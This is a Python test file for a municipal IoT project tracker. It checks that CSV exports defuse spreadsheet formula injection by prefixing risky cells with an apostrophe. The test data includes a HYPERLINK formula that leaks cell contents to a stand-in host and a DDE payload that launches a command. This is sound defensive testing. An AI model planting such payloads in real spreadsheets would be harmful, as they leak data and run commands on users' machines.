"""CSV exports neutralise formula injection (issue 12, finding 9): a cell that Excel would run as a formula
gets a leading ``'`` (OWASP); numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient

from chiiki_iot.accounts.policy import Role
from chiiki_iot.web.tables import csv_cell
from tests.accounts.test_auth import make_user, token_for

HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A1,"詳細")'


class TestCsvCell:
    @pytest.mark.parametrize(
        ("text", "expected"),
        [
            (HYPERLINK, "'" + HYPERLINK),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("-ABC", "'-ABC"),
            ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("説明会 = 2回", "説明会 = 2回"),  # only the first character matters
            ("2017-04-01", "2017-04-01"),
        ],
    )
    def test_formula_like_text_is_made_inert(self, text: str, expected: str) -> None:
        assert csv_cell(text) == expected

    @pytest.mark.parametrize("value", [-5, -2.5, 0, 3, 1e6, True])
    def test_numbers_stay_numbers(self, value: object) -> None:
        assert csv_cell(value) == value

    @pytest.mark.parametrize("text", ["-5", "-2.5", "+81", "-1e3", ".5"])
    def test_text_that_is_only_a_number_stays_as_it_is(self, text: str) -> None:
        assert csv_cell(text) == text

    def test_none_is_empty(self) -> None:
        assert csv_cell(None) == ""


def _rows(response) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_an_event_named_as_a_formula_is_exported_as_text(client: TestClient) -> None:
    headers = {"Authorization": f"Bearer {token_for(make_user(Role.BUREAU, 'kinki'))}"}
    body = {"held_on": "2017-08-02", "title": HYPERLINK, "category": "local", "target_prefecture": "26"}
    created = client.post("/api/v1/outreach/events", headers=headers, json=body)
    assert created.status_code == 201, created.text
    rows = [r for r in _rows(client.get("/api/v1/outreach/events", params={"format": "csv"})) if r["id"]]
    mine = next(r for r in rows if r["id"] == str(created.json()["id"]))
    assert mine["title"] == "'" + HYPERLINK
    assert mine["held_on"] == "2017-08-02"


def test_a_project_named_as_a_formula_is_exported_as_text(client: TestClient) -> None:
    headers = {"Authorization": f"Bearer {token_for(make_user(Role.MUNICIPALITY, '062014'))}"}  # 山形市
    project = {
        "name": HYPERLINK,
        "models": ["tourism-cloud"],
        "funding": "own",
        "budget_yen": 1200000,
        "vendors": ["@vendor"],
    }
    created = client.post("/api/v1/bodies/062014/projects", headers=headers, json=project)
    assert created.status_code == 201, created.text
    (row,) = _rows(client.get("/api/v1/bodies/062014/projects", params={"format": "csv"}))
    assert row["name"] == "'" + HYPERLINK
    assert row["budget_yen"] == "1200000"  # a number, not neutralised
